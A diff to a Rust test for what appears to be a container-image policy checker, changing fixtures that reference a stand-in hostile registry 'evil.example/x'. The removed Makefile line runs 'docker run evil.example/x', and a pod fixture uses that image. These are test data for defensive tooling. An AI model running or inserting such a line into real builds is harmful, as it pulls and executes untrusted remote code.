@@ -92,7 +92,7 @@ fn an_empty_stream_is_not_a_clean_one() {
 fn the_policy_alone_is_nothing_to_look_at() {
     let repository = Repository::new();
     repository.write("plimsoll.yaml", LIBRARY_ONLY);
-    repository.write("Makefile", "run:\n\tdocker run evil.example/x\n");
+    repository.write("notes.txt", "FROM evil.example/x\n");
     assert_eq!(code(&repository, &["check"]), 2);
     assert_eq!(code(&repository, &["check", "--allow-empty"]), 0);
     repository.write("a.yaml", pod("image: evil.example/x:1"));
